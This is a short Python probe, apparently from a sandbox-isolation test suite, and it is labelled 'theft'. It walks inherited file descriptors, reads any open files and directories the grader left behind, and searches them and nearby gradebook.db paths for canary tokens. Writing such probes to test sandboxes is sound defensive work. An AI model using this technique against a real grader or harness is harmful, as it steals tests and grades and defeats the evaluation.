# Tries: reads from every file descriptor that it did not open itself: a database, a test file or a
#   pipe that the grader forgot to close.
# Kind: theft
# Stock: no

# %% last
import os
import re
import stat

for number in range(3, 256):
    try:
        mode = os.fstat(number).st_mode
        print(number, os.readlink(f"/proc/self/fd/{number}"))
        if stat.S_ISREG(mode):
            found = re.findall(rb"CANARY-[0-9a-f]{24}", os.pread(number, 1 << 20, 0))
            print("HARM: a file is open", found) if found else None
        if stat.S_ISDIR(mode):
            print(os.listdir(number)[:20])
            os.chdir(number)
            for path in ("../course/gradebook.db", "course/gradebook.db", "../../gradebook.db"):
                if os.path.exists(path):
                    print(re.findall(rb"CANARY-[0-9a-f]{24}", open(path, "rb").read()))
    except OSError:
        pass
